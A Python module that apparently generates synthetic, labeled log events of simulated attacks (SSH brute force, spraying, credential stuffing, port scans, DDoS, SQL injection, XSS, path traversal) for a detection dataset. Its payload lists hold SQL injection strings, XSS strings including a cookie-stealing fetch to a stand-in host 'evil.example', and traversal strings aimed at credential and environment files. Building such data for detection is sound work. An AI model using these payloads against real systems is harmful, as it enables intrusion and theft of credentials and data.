"""Attack generators. Each returns the events of one attacker (or one ddos campaign), any order."""

from __future__ import annotations

import math
import random
from collections.abc import Callable
from urllib.parse import quote, quote_plus

from .formats import (
    RawEvent,
    _access_ev,
    _eph,
    _flow_ev,
    _login_api_event,
    _lognorm,
    _product_id,
    _ssh_accepted,
    _ssh_failed,
    _sshd_ev,
    _weighted,
)
from .population import (
    _BROWSER_UAS,
    _BRUTE_USERS,
    _CATEGORIES,
    _FIRST,
    _LAST,
    _MAIL_DOMAINS,
    _SEARCH_NORMAL,
    _SITE,
    _SPRAY_GENERIC,
    _TOOL_UAS,
    _Attack,
    _Ctx,
    _Population,
)
from .scans import web_scan


def _brute_force(ctx: _Ctx, rng: random.Random, a: _Attack) -> list[RawEvent]:
    ip = a.actors[0]
    lab = a.label
    host = rng.choice(("bastion", "bastion", "bastion", "web-01", "api-01"))
    dst = ctx.pop.servers[host]
    valid = ctx.pop.valid_ssh_users
    speed = rng.uniform(0.5, 1.1) * ctx.intensity
    evs: list[RawEvent] = []
    t = float(a.start_ms)
    while t < a.end_ms:
        pid, port, t_conn = rng.randint(1200, 64000), _eph(rng), t
        for _ in range(rng.randint(3, 6)):
            user = str(_weighted(rng, _BRUTE_USERS))
            evs.append(_sshd_ev(int(t), host, pid, _ssh_failed(user, user in valid, ip, port), lab, ip))
            t += rng.uniform(200.0, 900.0) / speed
            if t >= a.end_ms:
                break
        dur = max(0.0, min(t, a.end_ms - 1) - t_conn)
        n = 6 + int(dur / 150)
        evs.append(_flow_ev(int(t_conn), ip, port, dst, 22, "tcp", dur, n, n - 1, n * rng.randint(80, 110),
                            (n - 1) * rng.randint(90, 160), lab, syn=1, ack=2 * n - 2, fin=rng.randint(0, 2),
                            rst=rng.randint(0, 1), psh=n))
        t += rng.uniform(100.0, 1800.0) / speed
    if evs and rng.random() < 0.12:  # a rare success at the end
        t_ok = max(a.start_ms, a.end_ms - int(rng.uniform(200, 2000)))
        port = _eph(rng)
        evs.append(_sshd_ev(t_ok, host, rng.randint(1200, 64000), _ssh_accepted("root", ip, port), lab, ip))
    return evs


def _password_spraying(ctx: _Ctx, rng: random.Random, a: _Attack) -> list[RawEvent]:
    ip = a.actors[0]
    lab = a.label
    pop = ctx.pop
    mode = _weighted(rng, (("ssh", 0.4), ("api", 0.4), ("both", 0.2)))
    length_s = max(1.0, (a.end_ms - a.start_ms) / 1000.0)
    rate = max(rng.uniform(0.2, 1.0), 32.0 / length_s) * ctx.intensity
    attempts = max(1, int(rate * length_s))
    n_users = max(30, math.ceil(attempts / 1.5))
    staff = list(pop.staff)
    rng.shuffle(staff)
    generic = list(_SPRAY_GENERIC)
    rng.shuffle(generic)
    ssh_users = [s.ssh_user for s in staff[: n_users // 2]] + generic
    api_users = [s.web_user for s in staff[: n_users // 2]] + [f"{g}@{_SITE}" for g in generic]
    ssh_users = ssh_users[:n_users]
    api_users = api_users[:n_users]
    host = rng.choice(("bastion", "bastion", "web-01"))
    dst = pop.servers[host]
    order = list(range(len(ssh_users)))
    rng.shuffle(order)
    second = list(range(len(ssh_users)))
    rng.shuffle(second)
    seq = order + second  # at most two rounds: one or two attempts per user
    evs: list[RawEvent] = []
    t = a.start_ms + rng.expovariate(rate) * 1000.0
    for k in seq:
        if t >= a.end_ms:
            break
        use_ssh = mode == "ssh" or (mode == "both" and rng.random() < 0.5)
        if use_ssh:
            user = ssh_users[k]
            port = _eph(rng)
            evs.append(_sshd_ev(int(t), host, rng.randint(1200, 64000),
                                _ssh_failed(user, user in pop.valid_ssh_users, ip, port), lab, ip))
            evs.append(_flow_ev(int(t) - rng.randint(50, 400), ip, port, dst, 22, "tcp", rng.uniform(1500, 4000),
                                12, 10, rng.randint(1900, 2400), rng.randint(2400, 3200), lab,
                                syn=1, ack=21, fin=2, rst=0, psh=8))
        else:
            evs.append(_login_api_event(rng, t, ip, api_users[k], ok=False, label=lab))
        t += rng.uniform(0.5, 1.5) * 1000.0 / rate
    return [e for e in evs if e.ts_ms >= a.start_ms]


def _stuffing_identity(rng: random.Random, pop: _Population) -> str:
    if rng.random() < 0.04:
        c = rng.choice(pop.customers)
        if c.account:
            return c.account
    first, last = rng.choice(_FIRST), rng.choice(_LAST)
    style = rng.random()
    if style < 0.6:
        return f"{first}.{last}{rng.randint(0, 999)}@{rng.choice(_MAIL_DOMAINS)}"
    if style < 0.8:
        return f"{first[0]}{last}{rng.randint(1, 99)}@{rng.choice(_MAIL_DOMAINS)}"
    return f"{first}{last}{rng.randint(1, 9999)}"


def _credential_stuffing(ctx: _Ctx, rng: random.Random, a: _Attack) -> list[RawEvent]:
    ip = a.actors[0]
    lab = a.label
    ua = rng.choice(_BROWSER_UAS + _TOOL_UAS)
    rate = rng.uniform(0.6, 1.8) * ctx.intensity
    evs: list[RawEvent] = []
    t = float(a.start_ms)
    k = 0
    while t < a.end_ms:
        if k % rng.randint(15, 40) == 0:
            evs.append(_access_ev(int(t), ip, None, "GET", "/login", 200, int(_lognorm(rng, 9000, 0.2)), None, ua,
                                  _lognorm(rng, 0.02, 0.4), lab))
            t += rng.uniform(50, 300)
        user = _stuffing_identity(rng, ctx.pop)
        ok = rng.random() < 0.025
        if ok:
            evs.append(_access_ev(int(t), ip, user, "POST", "/login", 200, rng.randint(400, 700),
                                  f"https://{_SITE}/login", ua, _lognorm(rng, 0.07, 0.3), lab))
        else:
            evs.append(_access_ev(int(t), ip, user, "POST", "/login", 401, rng.randint(280, 340),
                                  f"https://{_SITE}/login", ua, _lognorm(rng, 0.06, 0.3), lab))
        k += 1
        t += rng.expovariate(rate) * 1000.0
    return evs


_TOP_PORTS = (
    80, 23, 443, 21, 22, 25, 3389, 110, 445, 139, 143, 53, 135, 3306, 8080, 1723, 111, 995, 993, 5900, 1025, 587,
    8888, 199, 1720, 465, 548, 113, 81, 6001, 10000, 514, 5060, 179, 1026, 2000, 8443, 8000, 32768, 554, 26, 1433,
    49152, 2001, 515, 8008, 49154, 1027, 5666, 646, 5000, 5631, 631, 49153, 8081, 2049, 88, 79, 5800, 106, 2121,
    1110, 49155, 6000, 513, 990, 5357, 427, 49156, 543, 544, 5101, 144, 7, 389, 8009, 3128, 444, 9999, 5009, 7070,
    5190, 3000, 5432, 1900, 3986, 13, 1029, 9, 5051, 6646, 49157, 1028, 873, 1755, 2717, 4899, 9100, 119, 37,
)


def _port_scan(ctx: _Ctx, rng: random.Random, a: _Attack) -> list[RawEvent]:
    ip = a.actors[0]
    lab = a.label
    open_ports = {"dns-01": {22, 53}, "bastion": {22}, "web-01": {22, 80, 443}, "web-02": {22, 80, 443},
                  "api-01": {22, 8080, 9092}, "auth-01": {22, 443, 636}, "db-01": {22, 5432},
                  "backup-01": {22, 445, 873}}
    names = rng.sample(list(ctx.pop.servers), int(_weighted(rng, ((1, 0.6), (2, 0.3), (3, 0.1)))))  # type: ignore[call-overload]
    n_ports = min(60000, int(rng.randint(100, 250) * ctx.intensity))
    ports: list[int] = list(_TOP_PORTS[: min(n_ports, len(_TOP_PORTS))])
    seen = set(ports)
    while len(ports) < n_ports:
        p = rng.randint(1, 65535)
        if p not in seen:
            seen.add(p)
            ports.append(p)
    rng.shuffle(ports)
    filtered_p = rng.uniform(0.0, 0.4)
    fixed_sport = _eph(rng) if rng.random() < 0.6 else None  # SYN scans reuse one source port
    probes = [(name, p) for p in ports for name in names]
    span = a.end_ms - a.start_ms
    times = sorted(a.start_ms + rng.random() * span for _ in probes)
    evs: list[RawEvent] = []
    for t, (name, port) in zip(times, probes):
        dst = ctx.pop.servers[name]
        sport = fixed_sport if fixed_sport is not None else _eph(rng)
        if port in open_ports[name]:
            ev = _flow_ev(int(t), ip, sport, dst, port, "tcp", rng.uniform(0, 4), 2, 1, 84, 44, lab,
                          syn=1, ack=1, rst=1)
        elif rng.random() < filtered_p:
            ev = _flow_ev(int(t), ip, sport, dst, port, "tcp", 0, 1, 0, 44, 0, lab, syn=1)
        else:
            ev = _flow_ev(int(t), ip, sport, dst, port, "tcp", rng.uniform(0, 2), 1, 1,
                          44 if rng.random() < 0.7 else 60, 40, lab, syn=1, ack=1, rst=1)
        evs.append(ev)
    return evs


def _ddos(ctx: _Ctx, rng: random.Random, a: _Attack) -> list[RawEvent]:
    lab = a.label
    srv = ctx.pop.servers
    target = rng.choice((srv["web-01"], srv["web-02"]))
    port = rng.choice((80, 443))
    kind = rng.choice(("syn_flood", "http_flood"))
    bots = a.actors
    # A flood floods: 6-12 flows/s at the target from all bots together, so the target's
    # distinct-source and flow-rate windows stand out even though each bot is quiet.
    total_rate = rng.uniform(6.0, 12.0) * ctx.intensity
    bot_rate = total_rate / len(bots)
    # Application-layer part: a handful of bots, each loud enough (0.5-1.5 req/s) to stand out
    # on its own; requests of a thin flood are individually indistinguishable from users'.
    http_bots = bots[: rng.randint(2, 5)]
    with_http = kind == "http_flood" or rng.random() < 0.5
    http_rate = rng.uniform(0.5, 1.5) * ctx.intensity if with_http else 0.0
    span = a.end_ms - a.start_ms
    evs: list[RawEvent] = []
    for bot in bots:
        t = a.start_ms + rng.uniform(0, min(5000.0, span * 0.5))
        while t < a.end_ms:
            if kind == "syn_flood":
                fp = max(20, int(_lognorm(rng, 400, 1.0)))
                bp = rng.randint(0, 2)
                ev = _flow_ev(int(t), bot, _eph(rng), target, port, "tcp", rng.uniform(500, 10000), fp, bp,
                              fp * rng.randint(40, 60), bp * 44, lab, syn=fp, ack=bp, rst=rng.randint(0, bp))
            else:
                fp = max(10, int(_lognorm(rng, 90, 0.8)))
                bp = rng.randint(1, 8)
                ev = _flow_ev(int(t), bot, _eph(rng), target, port, "tcp", rng.uniform(300, 20000), fp, bp,
                              fp * rng.randint(250, 600), bp * rng.randint(60, 300), lab,
                              syn=1, ack=fp + bp - 1, fin=rng.randint(0, 1), rst=rng.randint(0, 1), psh=fp // 2)
            evs.append(ev)
            t += rng.expovariate(bot_rate) * 1000.0
    if http_rate > 0:
        for bot in http_bots:
            ua = rng.choice(_BROWSER_UAS + ("Go-http-client/1.1",))
            t = a.start_ms + rng.uniform(0, min(10000.0, span * 0.5))
            while t < a.end_ms:
                path = "/" if rng.random() < 0.7 else f"/?{rng.getrandbits(24):06x}"
                status = int(_weighted(rng, ((200, 0.6), (503, 0.3), (429, 0.1))))  # type: ignore[call-overload]
                nbytes = int(_lognorm(rng, 18000, 0.3)) if status == 200 else rng.randint(150, 400)
                evs.append(_access_ev(int(t), bot, None, "GET", path, status, nbytes, None, ua,
                                      rng.uniform(0.3, 8.0), lab))
                t += rng.expovariate(http_rate) * 1000.0
    return evs


def _sqli_payload(rng: random.Random) -> tuple[str, bool]:
    """(payload as it appears in the URL, time-based?)"""
    plain = (
        "'+OR+1=1--", "'+OR+'1'='1", "1+UNION+SELECT+NULL,NULL--", "1'+UNION+SELECT+username,password+FROM+users--",
        "1+AND+SLEEP(5)", "1'+AND+1=CONVERT(int,@@version)--", "';+DROP+TABLE+users;--", "1+ORDER+BY+10--",
        "admin'--", "1)+OR+(1=1", "'+AND+extractvalue(1,concat(0x7e,version()))--", "1'+WAITFOR+DELAY+'0:0:5'--",
        "1/**/UNION/**/SELECT/**/1,2,3--", "-1'+UNION+ALL+SELECT+table_name,2+FROM+information_schema.tables--",
    )
    p = rng.choice(plain)
    timed = "SLEEP" in p or "WAITFOR" in p
    r = rng.random()
    if r < 0.45:
        return p, timed
    if r < 0.85:  # fully URL-encoded, e.g. %27%20OR%20%271%27%3D%271
        return quote(p.replace("+", " "), safe=""), timed
    return p.replace("+", "%20"), timed


def _xss_payload(rng: random.Random) -> str:
    plain = (
        "<script>alert(1)</script>", "<script>alert(document.cookie)</script>", "<img+src=x+onerror=alert(1)>",
        "<svg/onload=alert(1)>", "javascript:alert(1)", "'><script>alert(1)</script>", "<body+onload=alert('xss')>",
        "<iframe+src=javascript:alert(1)>", "<details+open+ontoggle=alert(1)>", "<a+href=javascript:alert(1)>x</a>",
        "<img+src=x+onerror=fetch('//evil.example/'+document.cookie)>",
    )
    p = rng.choice(plain)
    r = rng.random()
    if r < 0.4:
        return p
    if r < 0.85:  # %3Cscript%3E...
        return quote(p.replace("+", " "), safe="")
    return "%22%3E" + quote(p.replace("+", " "), safe="")


def _traversal_payload(rng: random.Random) -> str:
    target = rng.choice(("etc/passwd", "etc/passwd", "etc/shadow", "proc/self/environ", "windows/win.ini",
                         "WEB-INF/web.xml", ".env", "etc/hosts"))
    depth = rng.randint(2, 8)
    style = rng.random()
    if style < 0.35:
        return "../" * depth + target
    if style < 0.6:
        return "..%2F" * depth + target.replace("/", "%2F")
    if style < 0.75:
        return "%252e%252e%252f" * depth + target.replace("/", "%252f")
    if style < 0.85:
        return "%2e%2e%2f" * depth + target
    if style < 0.93:
        return "....//" * depth + target
    return "..%5c" * depth + target.replace("/", "%5c")


def _normalish_request(rng: random.Random) -> tuple[str, int]:
    r = rng.random()
    if r < 0.25:
        return "/", 200
    if r < 0.5:
        return f"/products/{_product_id(rng)}", 200
    if r < 0.65:
        return f"/search?q={quote_plus(rng.choice(_SEARCH_NORMAL))}", 200
    if r < 0.8:
        return "/robots.txt", 200
    if r < 0.9:
        return rng.choice(("/admin", "/wp-login.php", "/.git/config", "/server-status")), 404
    return f"/category/{rng.choice(_CATEGORIES)}?page=1", 200


def _web_attack(ctx: _Ctx, rng: random.Random, a: _Attack) -> list[RawEvent]:
    ip = a.actors[0]
    lab = a.label
    if lab == "sql_injection":
        ua = rng.choice(("sqlmap/1.8.5#stable (https://sqlmap.org)",) * 2 + _BROWSER_UAS[:3] + _TOOL_UAS[:2])
        statuses = ((200, 0.4), (500, 0.2), (400, 0.1), (403, 0.2), (404, 0.1))
    elif lab == "xss":
        ua = rng.choice(_BROWSER_UAS[:4] + _TOOL_UAS[:2])
        statuses = ((200, 0.55), (400, 0.15), (403, 0.2), (404, 0.1))
    else:
        nikto_ua = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:007002)"
        ua = rng.choice((nikto_ua,) + _BROWSER_UAS[:3] + _TOOL_UAS[:2])
        statuses = ((404, 0.4), (400, 0.2), (403, 0.25), (200, 0.1), (500, 0.05))
    rate = rng.uniform(0.25, 0.8) * ctx.intensity
    normal_p = rng.uniform(0.1, 0.2)
    evs: list[RawEvent] = []
    t = float(a.start_ms)
    while t < a.end_ms:
        rt = _lognorm(rng, 0.05, 0.6)
        method = "GET"
        if rng.random() < normal_p:
            path, status = _normalish_request(rng)
        else:
            status = int(_weighted(rng, statuses))  # type: ignore[call-overload]
            if lab == "sql_injection":
                p, timed = _sqli_payload(rng)
                param = rng.choice((("/products", "id"), ("/search", "q"), ("/category", "sort"),
                                    ("/api/v1/items", "id"), ("/account/orders", "order")))
                path = f"{param[0]}?{param[1]}={rng.randint(1, 500) if rng.random() < 0.5 else ''}{p}"
                if timed and status == 200:
                    rt = 5.0 + rng.uniform(0.0, 0.3)
            elif lab == "xss":
                param = rng.choice((("/search", "q"), ("/products/12/reviews", "comment"), ("/login", "next"),
                                    ("/help/contact", "name"), ("/", "ref")))
                path = f"{param[0]}?{param[1]}={_xss_payload(rng)}"
                if param[0] == "/products/12/reviews" and rng.random() < 0.5:
                    method = "POST"
            else:
                p = _traversal_payload(rng)
                style = rng.random()
                if style < 0.5:
                    param = rng.choice((("/download", "file"), ("/view", "page"), ("/images", "path"),
                                        ("/api/v1/export", "template")))
                    path = f"{param[0]}?{param[1]}={p}"
                else:
                    path = rng.choice(("/static/", "/images/", "/download/", "/")) + p
        if status == 200:
            nbytes = int(_lognorm(rng, 15000, 0.6))
        elif status == 500:
            nbytes = rng.randint(380, 620)
        else:
            nbytes = rng.randint(150, 1800)
        evs.append(_access_ev(int(t), ip, None, method, path, status, nbytes, None, ua, rt, lab))
        t += rng.expovariate(rate) * 1000.0
    return evs


_ATTACK_FNS: dict[str, Callable[[_Ctx, random.Random, _Attack], list[RawEvent]]] = {
    "brute_force": _brute_force,
    "password_spraying": _password_spraying,
    "credential_stuffing": _credential_stuffing,
    "port_scan": _port_scan,
    "ddos": _ddos,
    "sql_injection": _web_attack,
    "xss": _web_attack,
    "path_traversal": _web_attack,
    "web_scan": web_scan,
}
